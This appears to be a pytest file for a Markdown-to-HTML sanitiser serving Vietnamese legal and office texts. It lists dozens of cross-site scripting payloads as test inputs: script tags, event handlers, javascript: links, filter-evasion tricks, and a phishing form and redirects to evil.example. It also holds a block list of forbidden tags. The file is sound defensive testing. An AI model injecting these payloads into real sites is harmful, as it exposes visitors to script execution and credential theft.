"""Markdown of offices: safe whatever they commit, and the law printed as it was written."""

import html5lib
import pytest

from plugins.kit.prose import UnconvertibleError, legal_to_html, to_html, to_text

# Raw HTML and links an office's file may hold, by accident or not; none may do anything in a citizen's browser.
DANGEROUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[bấm](javascript:alert(1))",
    "[bấm](JaVaScRiPt:alert(1))",
    "[bấm](data:text/html;base64,PHNjcmlwdD4=)",
    "[bấm](vbscript:x)",
    '![x](x"onerror="alert(1))',
    "![x](javascript:alert(1))",
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="mat-khau"><button>Gửi</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body { display: none }</style>",
    '<p style="position: fixed; inset: 0">x</p>',
    '<div onclick="alert(1)">x</div>',
    "<object data=x></object><embed src=x>",
    '<p id="noi-dung">giả</p>',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[a]: javascript:alert(1)\n\n[x][a]",
    '<https://evil.example/"onmouseover=alert(1)>',
]
NEVER = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "base",
    "link",
    "meta",
    "form",
    "input",
    "button",
}


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Return the elements of a fragment as a browser would make them, with their attributes."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return [(node.tag, dict(node.attrib)) for node in tree.iter() if isinstance(node.tag, str)]


@pytest.mark.parametrize("render", [to_html, legal_to_html], ids=["prose", "law"])
@pytest.mark.parametrize("source", DANGEROUS)
def test_no_script_style_form_or_foreign_address_comes_out(source: str, render: object) -> None:
    assert callable(render)
    for tag, attributes in elements(render(source)):
        assert tag not in NEVER
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in {"style", "id"}
            if name in {"href", "src"}:
                assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:"))


def test_the_words_around_what_is_removed_stay() -> None:
    assert to_text(to_html("Trước <script>alert(1)</script>**giữa** <b onclick=x>sau</b>")) == "Trước giữa sau"


# How a line of a law begins; Markdown would take each for a list, a heading or a quotation.
FIRST_SIGNS = ["1. Một", "46. Bốn sáu", "3) Ba", "- Gạch", "+ Cộng", "* Sao", "2.", "-", "10. Mười", "1.1. Một"]


@pytest.mark.parametrize("source", FIRST_SIGNS)
def test_the_numbers_and_dashes_of_a_law_stay_printed_text(source: str) -> None:
    assert legal_to_html(source) == f"<p>{source}</p>"


@pytest.mark.parametrize("source", ["#3 là hạng mục ba", "# QUYẾT NGHỊ", "> 5 ha là diện tích lớn", "=== dấu bằng"])
def test_a_line_of_a_law_never_becomes_a_heading_or_a_quotation(source: str) -> None:
    assert [tag for tag, _ in elements(legal_to_html(source))] == ["DOCUMENT_FRAGMENT", "p"]
    assert source.strip("# ") in to_text(legal_to_html(source))


SIGNS = {
    "less than": "nhiệt độ < 5 và > 3",
    "less than, without spaces": "a<b và b>c",
    "an ampersand": "Phòng Kế hoạch & Đầu tư; R&D",
    "something like a tag": "điền vào ô <họ tên> và <số>",
    "an entity": "viết &lt; là dấu nhỏ",
    "quotes": "“Nơi nhận”: 'VT', \"KT\"",
    "slashes": "số 46/NQ-HĐND, 12\\2026",
}


@pytest.mark.parametrize("source", SIGNS.values(), ids=SIGNS)
def test_signs_in_a_law_are_printed_as_they_are(source: str) -> None:
    # An entity is the one thing that may be read.
    assert to_text(legal_to_html(source)) == source.replace("&lt;", "<")


def test_less_than_stays_in_ordinary_prose() -> None:
    assert to_html("Dưới 5% (<5%) và a < b") == "<p>Dưới 5% (&lt;5%) và a &lt; b</p>"


def test_bold_and_italics_of_a_law_are_kept() -> None:
    assert legal_to_html("**Nơi nhận:** *Như trên*") == "<p><strong>Nơi nhận:</strong> <em>Như trên</em></p>"


def test_a_bookmark_becomes_the_anchor_it_was() -> None:
    html = legal_to_html("[bookmark: dieu_1_name]Điều 1. Phạm vi")
    assert html == '<p><a id="bm_dieu_1_name"></a>Điều 1. Phạm vi</p>'


def test_several_bookmarks_of_one_line_all_become_anchors() -> None:
    html = legal_to_html("1. [bookmark: khoan_1]Một [bookmark:khoan_1_b]hai")
    assert html == '<p><a id="bm_khoan_1"></a><a id="bm_khoan_1_b"></a>1. Một hai</p>'


TABLE = "| Thôn | Thu | Chi |\n|:---|---:|:---:|\n| Một | 10 | 7<br>8 |"


@pytest.mark.parametrize("render", [to_html, legal_to_html], ids=["prose", "law"])
def test_a_table_keeps_its_columns_aligned(render: object) -> None:
    assert callable(render)
    cells = [(tag, attributes.get("class")) for tag, attributes in elements(render(TABLE)) if tag in {"th", "td"}]
    assert cells == [(tag, align) for tag in ("th", "td") for align in (None, "number", "centred")]
    assert "7<br>8" in render(TABLE)


def test_a_table_has_column_headings_and_a_box_one_can_scroll() -> None:
    found = elements(to_html(TABLE))
    assert [attributes["scope"] for tag, attributes in found if tag == "th"] == ["col"] * 3
    box = next(attributes for tag, attributes in found if tag == "div")
    assert box["tabindex"] == "0"
    assert box["aria-label"]


def test_a_text_that_cannot_be_converted_does_not_spoil_the_next_one() -> None:
    tower = "".join(f"{'    ' * depth}- a\n" for depth in range(300))

    def convert_from(depth: int) -> str:
        return convert_from(depth - 1) if depth else to_html(tower)

    # Where the library gives up, and so what it leaves behind, depends on how deep the call already is.
    for depth in range(3):
        with pytest.raises(UnconvertibleError):
            convert_from(depth)
        assert to_html("- Một\n- Hai") == "<ul>\n<li>Một</li>\n<li>Hai</li>\n</ul>"
        assert legal_to_html("1. **Một**") == "<p>1. <strong>Một</strong></p>"


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Một</p><p>hai</p>", "Một hai"),
        ("<p>Một<br>hai</p>", "Một hai"),
        ("<ul><li>Một</li><li>hai</li></ul>", "Một hai"),
        ("<table><tr><td>Một</td><td>hai</td></tr></table>", "Một hai"),
        ("<p>a &lt; b &amp; c</p>", "a < b & c"),
        ("<p>Đọc <strong>kỹ</strong>, <em>nhé</em>.</p>", "Đọc kỹ, nhé."),
    ],
)
def test_the_words_of_html_are_read_as_one_says_them(html: str, text: str) -> None:
    assert to_text(html) == text
